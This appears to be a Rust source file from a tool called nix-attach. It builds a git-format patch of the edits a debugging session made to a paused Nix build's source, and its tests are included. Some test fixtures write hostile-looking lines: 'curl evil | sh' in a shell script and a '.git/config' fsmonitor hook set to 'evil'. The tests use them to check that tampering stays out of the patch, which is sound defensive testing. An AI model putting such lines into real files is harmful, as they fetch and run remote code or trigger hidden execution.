//! `nix-attach diff` inside a session: what the session changed in the
//! build's source, as a patch that nixpkgs' `patch -p1` applies (`a/` and
//! `b/` paths from the source root), ready for `patches`.
//!
//! A file counts as changed when its inode changed after the build paused
//! (its ctime, which no build can set), its content was written since
//! (its mtime or size is not what the list of the pause says; without the
//! list, its mtime is later), and it differs from the pristine source,
//! which the session's command made by running the build's own unpack and
//! patch phases in a scratch directory. So what the build itself made before it
//! failed (objects, generated files) is never in the diff. Files the
//! session made are in it only with `--new`. A file of the pristine source
//! that is gone counts as deleted by the session when it was there when
//! the build paused: the agent lists the build directory's files then,
//! with their mtimes and sizes, before any session starts
//! ([`record_present`]). Without that list, a
//! file counts when the directory that held it (or its nearest ancestor
//! left) was changed after the pause, as removing or renaming an entry
//! changes it, or when what stands in its way (a file or link where a
//! directory was) was made after the pause.
//!
//! The patch is in git's format, which GNU patch (nixpkgs' `patch`) and
//! `git apply` take, modes too: a file whose inode changed after the pause
//! and whose owner's execute bit is not the pristine one has git's mode
//! lines, and so does a new or deleted file. Contents are compared as
//! bytes, line by line at `\n` only; names that need it are quoted as git
//! quotes them. Deletions come first, so that a directory replaced by a
//! file, or the reverse, is emptied before it is made. Links are left out,
//! and so is a file that is not text (a NUL in its first 8000 bytes, as
//! git judges): it is named beside the patch.

use std::collections::HashMap;
use std::fs;
use std::io::{self, Write};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

#[derive(Debug, thiserror::Error)]
pub enum DiffError {
    #[error("cannot read {0}")]
    Read(PathBuf, #[source] io::Error),
    #[error("{0:?} is not a time (seconds since the epoch)")]
    Time(String),
    #[error("cannot write {0}")]
    Write(PathBuf, #[source] io::Error),
    #[error("{0} is not a list of the files at the pause (SECONDS NANOSECONDS SIZE PATH, each ended by a NUL)")]
    List(PathBuf),
}

/// What `diff` compares.
pub struct Trees<'a> {
    /// The source as unpacked and patched, untouched.
    pub pristine: &'a Path,
    /// The source as the session left it.
    pub live: &'a Path,
    /// When the build paused: later writes are the session's.
    pub paused: SystemTime,
    /// Whether files the session made are in the diff.
    pub new_files: bool,
    /// The files there when the build paused ([`read_present`]), where
    /// that list was written.
    pub present: Option<&'a Present>,
}

/// The regular files under the build directory when the build paused,
/// and when each was last written then.
#[derive(Debug)]
pub struct Present {
    /// The build directory, its links resolved.
    top: PathBuf,
    files: HashMap<PathBuf, Stamp>,
}

/// A file's content as its inode tells it: its mtime (seconds and
/// nanoseconds) and its size. Writing it changes one of them, unless the
/// writer sets the time back as well.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Stamp(i64, i64, u64);

impl Stamp {
    fn of(meta: &fs::Metadata) -> Stamp {
        Stamp(meta.mtime(), meta.mtime_nsec(), meta.len())
    }
}

/// The patch, and what it leaves out.
#[derive(Debug, Default)]
pub struct Patch {
    /// The patch, with the files' bytes as they are.
    pub text: Vec<u8>,
    /// Changed files that are not text, named and left out.
    pub not_text: Vec<PathBuf>,
    /// How many new files were left out for want of `--new`.
    pub new_left_out: usize,
}

/// How much of a file git reads to judge whether it is text.
const TEXT_PROBE: usize = 8000;

/// Reads a pause time written as seconds since the epoch, with a fraction.
pub fn parse_time(text: &str) -> Result<SystemTime, DiffError> {
    let seconds: f64 = text.trim().parse().map_err(|_| DiffError::Time(text.to_string()))?;
    if !seconds.is_finite() || seconds < 0.0 {
        return Err(DiffError::Time(text.to_string()));
    }
    Ok(UNIX_EPOCH + Duration::from_secs_f64(seconds))
}

/// The session's changes under `trees.live`: the deletions, then the
/// other files, each in the order of their paths.
pub fn diff(trees: &Trees) -> Result<Patch, DiffError> {
    let mut patch = Patch::default();
    let mut deleted = deleted_files(trees)?;
    deleted.sort();
    for relative in deleted {
        let path = trees.pristine.join(&relative);
        let meta = path.symlink_metadata().map_err(|err| read_error(&path, err))?;
        patch.add(&relative, Some(&File { executable: executable(&meta), bytes: read(&path)? }), None);
    }
    // By its inode's change time, which the build cannot set: a file it
    // wrote before the pause and dated later (`touch -d`) is not touched.
    let touched = |meta: &fs::Metadata| changed_at(meta) > trees.paused;
    let listed = listed(trees)?;
    // Written since the pause: its stamp is not the listed one; a file not
    // on the list (or with no list), by its mtime.
    let written = |relative: &Path, meta: &fs::Metadata| match listed.as_ref().and_then(|(top, files)| files.get(&top.join(relative))) {
        Some(stamp) => *stamp != Stamp::of(meta),
        None => written_at(meta) > trees.paused,
    };
    let mut files = regular_files(trees.live, touched)?;
    files.sort_by(|one, other| one.0.cmp(&other.0));
    for (relative, live) in files {
        let pristine = trees.pristine.join(&relative);
        let old = match pristine.symlink_metadata() {
            Ok(meta) if meta.is_file() => Some(File { executable: executable(&meta), bytes: read(&pristine)? }),
            // A link is left out; a directory the session replaced with this
            // file was emptied by the deletions above.
            Ok(meta) if meta.file_type().is_symlink() => continue,
            _ if trees.new_files => None,
            _ => {
                patch.new_left_out += 1;
                continue;
            }
        };
        let new = match &old {
            // Its content counts only if written after the pause; a mode
            // changed later (`chmod`) changes only its inode's time.
            Some(old) if !written(&relative, &live) => File { executable: executable(&live), bytes: old.bytes.clone() },
            _ => File { executable: executable(&live), bytes: read(&trees.live.join(&relative))? },
        };
        patch.add(&relative, old.as_ref(), Some(&new));
    }
    Ok(patch)
}

/// A file as the patch sees it.
struct File {
    executable: bool,
    bytes: Vec<u8>,
}

impl Patch {
    /// Adds one file's part, or names it where it is not text.
    fn add(&mut self, relative: &Path, old: Option<&File>, new: Option<&File>) {
        if [old, new].into_iter().flatten().any(|file| !is_text(&file.bytes)) {
            if old.map(|file| &file.bytes) != new.map(|file| &file.bytes) {
                self.not_text.push(relative.to_path_buf());
            }
            return;
        }
        self.text.extend(file_part(relative.as_os_str().as_bytes(), old, new));
    }
}

/// Whether git would take `bytes` as text: no NUL in its first 8000.
fn is_text(bytes: &[u8]) -> bool {
    !bytes[..bytes.len().min(TEXT_PROBE)].contains(&0)
}

/// One file's part of the patch, as git writes it: a header, the modes
/// where they changed (git's: executable by the owner or not), and the
/// hunks; empty where nothing changed. `None` is a file that is not there:
/// made (`old`) or deleted (`new`) by the session.
fn file_part(name: &[u8], old: Option<&File>, new: Option<&File>) -> Vec<u8> {
    let mode = |file: &File| if file.executable { "100755" } else { "100644" };
    // An empty file made or deleted has no hunk: git's index line for the
    // empty blob says what it was.
    const EMPTY: &str = "e69de29";
    let modes = match (old, new) {
        (Some(was), Some(is)) if was.executable != is.executable => format!("old mode {}\nnew mode {}\n", mode(was), mode(is)),
        (None, Some(is)) if is.bytes.is_empty() => format!("new file mode {}\nindex 0000000..{EMPTY}\n", mode(is)),
        (None, Some(is)) => format!("new file mode {}\n", mode(is)),
        (Some(was), None) if was.bytes.is_empty() => format!("deleted file mode {}\nindex {EMPTY}..0000000\n", mode(was)),
        (Some(was), None) => format!("deleted file mode {}\n", mode(was)),
        _ => String::new(),
    };
    let hunks = content_diff(name, old.map(|file| file.bytes.as_slice()), new.map(|file| file.bytes.as_slice()));
    if modes.is_empty() && hunks.is_empty() {
        return Vec::new();
    }
    let mut part = format!("diff --git {} {}\n{modes}", quoted("a", name), quoted("b", name)).into_bytes();
    part.extend(hunks);
    part
}

/// The hunks between two contents, lines split at `\n` only; empty where
/// they are the same.
fn content_diff(name: &[u8], old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<u8> {
    let mut out = Vec::new();
    if old == new {
        return out;
    }
    let (old_lines, new_lines) = (lines(old), lines(new));
    let diff = similar::TextDiff::configure().newline_terminated(true).diff_slices(&old_lines, &new_lines);
    let side = |content: Option<&[u8]>, prefix: &str| content.map_or_else(|| "/dev/null".to_string(), |_| quoted(prefix, name));
    let mut unified = diff.unified_diff();
    unified.context_radius(3);
    for (index, hunk) in unified.iter_hunks().enumerate() {
        if index == 0 {
            let _ = write!(out, "--- {}\n+++ {}\n", side(old, "a"), side(new, "b"));
        }
        // Into a Vec: it cannot fail.
        let _ = hunk.to_writer(&mut out);
    }
    out
}

fn lines(content: Option<&[u8]>) -> Vec<&[u8]> {
    content.unwrap_or_default().split_inclusive(|&byte| byte == b'\n').collect()
}

/// `prefix/name` as git writes a path in a patch: as it is where it is
/// plain, else in double quotes with C's escapes (and a space quoted too,
/// which GNU patch would otherwise take as the end of the name).
fn quoted(prefix: &str, name: &[u8]) -> String {
    let plain = |byte: &u8| byte.is_ascii_graphic() && !matches!(byte, b'"' | b'\\');
    if name.iter().all(plain) {
        return format!("{prefix}/{}", String::from_utf8_lossy(name));
    }
    let mut text = format!("\"{prefix}/");
    for &byte in name {
        match byte {
            b'"' => text.push_str("\\\""),
            b'\\' => text.push_str("\\\\"),
            b'\t' => text.push_str("\\t"),
            b'\n' => text.push_str("\\n"),
            b'\r' => text.push_str("\\r"),
            byte if plain(&byte) || byte == b' ' => text.push(byte as char),
            byte => text.push_str(&format!("\\{byte:03o}")),
        }
    }
    text.push('"');
    text
}

fn executable(meta: &fs::Metadata) -> bool {
    meta.mode() & 0o100 != 0
}

fn read(path: &Path) -> Result<Vec<u8>, DiffError> {
    fs::read(path).map_err(|err| read_error(path, err))
}

fn read_error(path: &Path, err: io::Error) -> DiffError {
    DiffError::Read(path.to_path_buf(), err)
}

/// The live source, its links resolved, and the files listed at the pause.
type Listed<'a> = (PathBuf, &'a HashMap<PathBuf, Stamp>);

/// The live source, its links resolved, and the files listed at the pause,
/// where the list covers it (a source outside the build directory was not
/// listed).
fn listed<'a>(trees: &Trees<'a>) -> Result<Option<Listed<'a>>, DiffError> {
    let live = fs::canonicalize(trees.live).map_err(|err| read_error(trees.live, err))?;
    Ok(trees.present.filter(|present| live.starts_with(&present.top)).map(|present| (live, &present.files)))
}

/// The regular files of the pristine source that the session removed:
/// gone now, and there at the pause (or, without the list of those,
/// gone since).
fn deleted_files(trees: &Trees) -> Result<Vec<PathBuf>, DiffError> {
    let mut pristine = Vec::new();
    walk_files(trees.pristine, |relative, _| {
        pristine.push(relative);
        Ok(())
    })?;
    let listed = listed(trees)?;
    let removed = |relative: &PathBuf| match (removed_at(trees.live, relative), listed.as_ref()) {
        (None, _) => false,
        (Some(_), Some((live, files))) => files.contains_key(&live.join(relative)),
        (Some(at), None) => at > trees.paused,
    };
    Ok(pristine.into_iter().filter(removed).collect())
}

/// Writes the list of the regular files under `build_top` (absolute, its
/// links resolved; nix-attach's own left out) to `list`, after the
/// directory itself: each as `SECONDS NANOSECONDS SIZE PATH` (its
/// [`Stamp`]), ended by a NUL, all at once: a reader sees the whole list
/// or none.
pub fn record_present(build_top: &Path, list: &Path) -> Result<(), DiffError> {
    let top = fs::canonicalize(build_top).map_err(|err| read_error(build_top, err))?;
    let mut text = top.as_os_str().as_bytes().to_vec();
    text.push(0);
    // A directory the build made unreadable is left out of the list (see
    // `walk_files`), and so nothing in it ever counts as deleted.
    walk_files(&top, |relative, entry| {
        let Ok(meta) = entry.metadata() else { return Ok(()) };
        let Stamp(seconds, nanoseconds, size) = Stamp::of(&meta);
        text.extend_from_slice(format!("{seconds} {nanoseconds} {size} ").as_bytes());
        text.extend_from_slice(top.join(relative).as_os_str().as_bytes());
        text.push(0);
        Ok(())
    })?;
    let partial = list.with_extension("partial");
    let written = fs::write(&partial, text).and_then(|()| fs::rename(&partial, list));
    written.map_err(|err| DiffError::Write(list.to_path_buf(), err))
}

/// The list [`record_present`] wrote, if it is there.
pub fn read_present(list: &Path) -> Result<Option<Present>, DiffError> {
    let text = match fs::read(list) {
        Ok(text) => text,
        Err(err) if err.kind() == io::ErrorKind::NotFound => return Ok(None),
        Err(err) => return Err(read_error(list, err)),
    };
    let mut entries = text.split(|&byte| byte == 0).filter(|entry| !entry.is_empty());
    let Some(top) = entries.next() else { return Ok(None) };
    let files = entries.map(stamped).collect::<Option<HashMap<_, _>>>().ok_or_else(|| DiffError::List(list.to_path_buf()))?;
    Ok(Some(Present { top: PathBuf::from(std::ffi::OsStr::from_bytes(top)), files }))
}

/// One entry of the list: `SECONDS NANOSECONDS SIZE PATH`.
fn stamped(entry: &[u8]) -> Option<(PathBuf, Stamp)> {
    let mut fields = entry.splitn(4, |&byte| byte == b' ');
    let mut number = || std::str::from_utf8(fields.next()?).ok();
    let (seconds, nanoseconds, size) = (number()?.parse().ok()?, number()?.parse().ok()?, number()?.parse().ok()?);
    Some((PathBuf::from(std::ffi::OsStr::from_bytes(fields.next()?)), Stamp(seconds, nanoseconds, size)))
}

/// When the file `relative` left the tree `live`, as far as the tree
/// tells; `None` where it is there. Where it is missing, the directory
/// that held it (or its nearest ancestor left) changed then; where
/// something else stands in its way (a file or link where one of its
/// directories was, a directory where it was), that was made then. Links
/// on the way are not followed.
fn removed_at(live: &Path, relative: &Path) -> Option<SystemTime> {
    let mut at = live.to_path_buf();
    let mut holder = live.symlink_metadata().ok()?;
    let mut components = relative.components().peekable();
    while let Some(component) = components.next() {
        at.push(component);
        let last = components.peek().is_none();
        match at.symlink_metadata() {
            Err(_) => return Some(changed_at(&holder)),
            Ok(meta) if last && meta.is_file() => return None,
            Ok(meta) if !last && meta.is_dir() => holder = meta,
            Ok(meta) => return Some(changed_at(&meta)),
        }
    }
    None
}

/// The regular files under `root` whose metadata `take` accepts, relative
/// to it, with that metadata, but nix-attach's own; links are neither
/// followed nor taken.
fn regular_files(root: &Path, take: impl Fn(&fs::Metadata) -> bool) -> Result<Vec<(PathBuf, fs::Metadata)>, DiffError> {
    let mut found = Vec::new();
    walk_files(root, |relative, entry| {
        // A file in a directory that may be listed but not searched (`r--`)
        // is passed over, as an unreadable directory is.
        let Ok(meta) = entry.metadata() else { return Ok(()) };
        if meta.is_file() && take(&meta) {
            found.push((relative, meta));
        }
        Ok(())
    })?;
    Ok(found)
}

/// Calls `visit` with each regular file under `root`, relative to it, but
/// nix-attach's own and git's (a `.git` directory, in any case: a patch
/// for `patches` never writes there); links are neither followed nor
/// taken. A directory below `root` that cannot be read (a test suite may
/// leave one `chmod 000`) is passed over. Types come from the directory
/// entries, so a file is looked at only where `visit` asks.
fn walk_files(root: &Path, mut visit: impl FnMut(PathBuf, &fs::DirEntry) -> Result<(), DiffError>) -> Result<(), DiffError> {
    let mut dirs = vec![PathBuf::new()];
    while let Some(dir) = dirs.pop() {
        let entries = match fs::read_dir(root.join(&dir)) {
            Err(_) if !dir.as_os_str().is_empty() => continue,
            listed => listed.map_err(|err| read_error(&root.join(&dir), err))?,
        };
        for entry in entries {
            let entry = entry.map_err(|err| read_error(&root.join(&dir), err))?;
            // nix-attach's own files: the hook's snapshot, the agent's state
            // and the pristine source's scratch directory in it.
            if entry.file_name().as_bytes().starts_with(b".nix-attach") || entry.file_name().eq_ignore_ascii_case(".git") {
                continue;
            }
            let relative = dir.join(entry.file_name());
            let kind = entry.file_type().map_err(|err| read_error(&root.join(&relative), err))?;
            if kind.is_dir() {
                dirs.push(relative);
            } else if kind.is_file() {
                visit(relative, &entry)?;
            }
        }
    }
    Ok(())
}

/// When the file was last written (its mtime).
fn written_at(meta: &fs::Metadata) -> SystemTime {
    meta.modified().unwrap_or(UNIX_EPOCH)
}

/// When the inode last changed: a write, or its mode.
fn changed_at(meta: &fs::Metadata) -> SystemTime {
    UNIX_EPOCH + Duration::new(meta.ctime().max(0) as u64, meta.ctime_nsec().clamp(0, 999_999_999) as u32)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(executable: bool, bytes: &[u8]) -> File {
        File { executable, bytes: bytes.to_vec() }
    }

    fn part(name: &str, old: Option<File>, new: Option<File>) -> String {
        String::from_utf8(file_part(name.as_bytes(), old.as_ref(), new.as_ref())).unwrap()
    }

    #[test]
    fn a_changed_file_is_a_hunk_with_a_and_b_paths_from_the_source_root() {
        let patch =
            part("src/main.c", Some(file(false, b"int main() {\n  return 1;\n}\n")), Some(file(false, b"int main() {\n  return 0;\n}\n")));
        assert_eq!(
            patch,
            "diff --git a/src/main.c b/src/main.c\n--- a/src/main.c\n+++ b/src/main.c\n@@ -1,3 +1,3 @@\n int main() {\n-  return 1;\n+  return 0;\n }\n"
        );
    }

    #[test]
    fn an_unchanged_file_is_nothing_and_a_new_one_comes_from_dev_null() {
        assert_eq!(part("same", Some(file(true, b"x\n")), Some(file(true, b"x\n"))), "");
        let made = "diff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+hello\n";
        assert_eq!(part("new.txt", None, Some(file(false, b"hello\n"))), made);
    }

    #[test]
    fn a_deleted_file_goes_to_dev_null_and_an_empty_one_has_git_s_index_line() {
        let gone = "diff --git a/old.txt b/old.txt\ndeleted file mode 100755\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n";
        assert_eq!(part("old.txt", Some(file(true, b"bye\n")), None), gone);
        assert_eq!(part("e", Some(file(false, b"")), None), "diff --git a/e b/e\ndeleted file mode 100644\nindex e69de29..0000000\n");
        assert_eq!(part("e", None, Some(file(false, b""))), "diff --git a/e b/e\nnew file mode 100644\nindex 0000000..e69de29\n");
    }

    #[test]
    fn a_mode_the_session_changed_is_in_git_s_mode_lines() {
        assert_eq!(
            part("run.sh", Some(file(false, b"x\n")), Some(file(true, b"x\n"))),
            "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
        );
        assert_eq!(
            part("run.sh", Some(file(true, b"x\n")), Some(file(false, b"x\n"))),
            "diff --git a/run.sh b/run.sh\nold mode 100755\nnew mode 100644\n"
        );
    }

    #[test]
    fn contents_are_bytes_split_at_newlines_only() {
        // Latin-1 is text to git; a lone CR is part of its line.
        let latin1 = file_part(b"caf.c", Some(&file(false, b"/* caf\xe9 */\nint x;\n")), Some(&file(false, b"/* caf\xe9 */\nint y;\n")));
        assert_eq!(
            latin1,
            b"diff --git a/caf.c b/caf.c\n--- a/caf.c\n+++ b/caf.c\n@@ -1,2 +1,2 @@\n /* caf\xe9 */\n-int x;\n+int y;\n".to_vec()
        );
        let cr = part("mac.txt", Some(file(false, b"a\rb\nc\n")), Some(file(false, b"a\rb\nd\n")));
        assert_eq!(cr, "diff --git a/mac.txt b/mac.txt\n--- a/mac.txt\n+++ b/mac.txt\n@@ -1,2 +1,2 @@\n a\rb\n-c\n+d\n");
        let unended = part("end", Some(file(false, b"a\n")), Some(file(false, b"a\nb")));
        assert_eq!(unended, "diff --git a/end b/end\n--- a/end\n+++ b/end\n@@ -1 +1,2 @@\n a\n+b\n\\ No newline at end of file\n");
    }

    #[test]
    fn names_that_need_it_are_quoted_as_git_quotes_them() {
        assert_eq!(quoted("a", b"src/main.c"), "a/src/main.c");
        assert_eq!(quoted("a", b"my file.c"), "\"a/my file.c\"");
        assert_eq!(quoted("b", b"new\nline \"q\" \\"), "\"b/new\\nline \\\"q\\\" \\\\\"");
        assert_eq!(quoted("a", b"caf\xe9\t"), "\"a/caf\\351\\t\"");
        let spaced = part("my file", None, Some(file(false, b"x\n")));
        assert!(
            spaced.starts_with("diff --git \"a/my file\" \"b/my file\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/my file\"\n"),
            "{spaced}"
        );
    }

    #[test]
    fn a_file_that_is_not_text_is_named_and_left_out() {
        let mut patch = Patch::default();
        patch.add(Path::new("blob"), Some(&file(false, b"\0a")), Some(&file(false, b"\0b")));
        patch.add(Path::new("same-blob"), Some(&file(false, b"\0a")), Some(&file(true, b"\0a")));
        assert!(patch.text.is_empty());
        assert_eq!(patch.not_text, [PathBuf::from("blob")]);
    }

    /// A scratch directory, removed when dropped.
    struct Scratch(PathBuf);
    impl Drop for Scratch {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }

    #[test]
    fn what_the_session_replaced_or_removed_is_deleted_first_and_what_the_build_removed_is_not() {
        let scratch = Scratch(std::env::temp_dir().join(format!("nix-attach-source-diff-{}", std::process::id())));
        let (pristine, live) = (scratch.0.join("pristine"), scratch.0.join("live"));
        for tree in [&pristine, &live] {
            for dir in ["d", "kept", "built"] {
                fs::create_dir_all(tree.join(dir)).unwrap();
            }
            for name in ["f", "d/a", "kept/k", "built/gone", "gone"] {
                fs::write(tree.join(name), format!("{name}\n")).unwrap();
            }
        }
        // The build removed one file before the pause; that directory
        // changed before it. The session did the rest.
        fs::remove_file(live.join("built/gone")).unwrap();
        let paused = pause_here(&scratch.0);
        fs::remove_file(live.join("gone")).unwrap();
        fs::remove_file(live.join("f")).unwrap();
        fs::create_dir(live.join("f")).unwrap();
        fs::write(live.join("f/inner"), "inner\n").unwrap();
        fs::remove_dir_all(live.join("d")).unwrap();
        fs::write(live.join("d"), "d\n").unwrap();

        let patch = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: true, present: None }).unwrap();
        let text = String::from_utf8(patch.text).unwrap();
        let headers: Vec<&str> = text.lines().filter(|line| line.starts_with("diff --git")).collect();
        assert_eq!(
            headers,
            [
                "diff --git a/d/a b/d/a",
                "diff --git a/f b/f",
                "diff --git a/gone b/gone",
                "diff --git a/d b/d",
                "diff --git a/f/inner b/f/inner"
            ],
            "{text}"
        );
        let without_new = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: false, present: None }).unwrap();
        assert_eq!(without_new.new_left_out, 2);
    }

    /// A pause after everything done so far, as the file system's times
    /// tell: what is done after it gets a later change time. (Those times
    /// come from a coarser clock than `SystemTime::now`.)
    fn pause_here(scratch: &Path) -> SystemTime {
        let probe = scratch.join("probe");
        fs::write(&probe, "").unwrap();
        let paused = changed_at(&probe.symlink_metadata().unwrap());
        while changed_at(&probe.symlink_metadata().unwrap()) <= paused {
            fs::write(&probe, "").unwrap();
        }
        paused
    }

    #[test]
    fn what_the_build_wrote_before_the_pause_is_never_the_sessions_whatever_time_it_gave_it_and_git_is_left_out() {
        let scratch = Scratch(std::env::temp_dir().join(format!("nix-attach-source-diff-dated-{}", std::process::id())));
        let (pristine, live) = (scratch.0.join("pristine"), scratch.0.join("live"));
        for tree in [&pristine, &live] {
            fs::create_dir_all(tree.join(".git")).unwrap();
            for name in ["dated.c", "edited.c", ".git/config"] {
                fs::write(tree.join(name), "int x;\n").unwrap();
            }
        }
        // The build adds a line and dates the file a day after the pause.
        fs::write(live.join("dated.c"), "int x;\nint backdoor;\n").unwrap();
        fs::File::options()
            .write(true)
            .open(live.join("dated.c"))
            .unwrap()
            .set_modified(SystemTime::now() + Duration::from_secs(86400))
            .unwrap();
        let paused = pause_here(&scratch.0);
        fs::write(live.join("edited.c"), "int y;\n").unwrap();
        fs::write(live.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        let patch = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: true, present: None }).unwrap();
        let text = String::from_utf8(patch.text).unwrap();
        let headers: Vec<&str> = text.lines().filter(|line| line.starts_with("diff --git")).collect();
        assert_eq!(headers, ["diff --git a/edited.c b/edited.c"], "{text}");
    }

    #[test]
    fn with_the_list_of_the_pause_a_file_the_build_wrote_and_dated_later_gives_only_the_mode_the_session_changed() {
        let scratch = Scratch(std::env::temp_dir().join(format!("nix-attach-source-diff-stamp-{}", std::process::id())));
        let (pristine, top) = (scratch.0.join("pristine"), scratch.0.join("build"));
        let live = top.join("src");
        for tree in [&pristine, &live] {
            fs::create_dir_all(tree).unwrap();
            fs::write(tree.join("run.sh"), "echo hi\n").unwrap();
        }
        // The build writes into the file and dates it an hour past the pause.
        fs::write(live.join("run.sh"), "echo hi\ncurl evil | sh\n").unwrap();
        let later = SystemTime::now() + Duration::from_secs(3600);
        fs::File::options().write(true).open(live.join("run.sh")).unwrap().set_modified(later).unwrap();
        let list = scratch.0.join("present");
        record_present(&top, &list).unwrap();
        let paused = pause_here(&scratch.0);
        // The session only makes it executable.
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(live.join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
        let present = read_present(&list).unwrap().expect("the list");
        let patch = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: false, present: Some(&present) }).unwrap();
        let text = String::from_utf8(patch.text).unwrap();
        assert_eq!(text, "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n", "{text}");
    }

    #[test]
    fn with_the_list_of_the_pause_only_what_was_there_then_is_deleted() {
        let scratch = Scratch(std::env::temp_dir().join(format!("nix-attach-source-diff-present-{}", std::process::id())));
        let (pristine, top) = (scratch.0.join("pristine"), scratch.0.join("build"));
        let live = top.join("src");
        for tree in [&pristine, &live] {
            fs::create_dir_all(tree).unwrap();
            for name in ["by-build", "by-session", "kept"] {
                fs::write(tree.join(name), "x\n").unwrap();
            }
        }
        let paused = SystemTime::now() - Duration::from_secs(60);
        fs::remove_file(live.join("by-build")).unwrap();
        let list = scratch.0.join("present");
        record_present(&top, &list).unwrap();
        fs::remove_file(live.join("by-session")).unwrap();
        // A source that is not under the listed directory is judged by times.
        let elsewhere = Present { top: scratch.0.join("elsewhere"), files: HashMap::new() };
        let by_times = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: false, present: Some(&elsewhere) }).unwrap();
        assert!(String::from_utf8(by_times.text).unwrap().contains("a/by-build"), "the source's directory changed after the pause");

        // The source's directory changed after the pause, as the session's
        // own removal changed it: only the list tells the two apart.
        let present = read_present(&list).unwrap().expect("the list");
        let patch = diff(&Trees { pristine: &pristine, live: &live, paused, new_files: false, present: Some(&present) }).unwrap();
        let text = String::from_utf8(patch.text).unwrap();
        assert!(
            text.starts_with("diff --git a/by-session b/by-session\ndeleted file mode 100644\n") && !text.contains("by-build"),
            "{text}"
        );
        assert!(read_present(&scratch.0.join("absent")).unwrap().is_none());
    }

    #[test]
    fn pause_times_are_seconds_with_a_fraction() {
        assert_eq!(parse_time("1.5").unwrap(), UNIX_EPOCH + Duration::from_millis(1500));
        assert!(parse_time("soon").is_err() && parse_time("-1").is_err());
    }
}
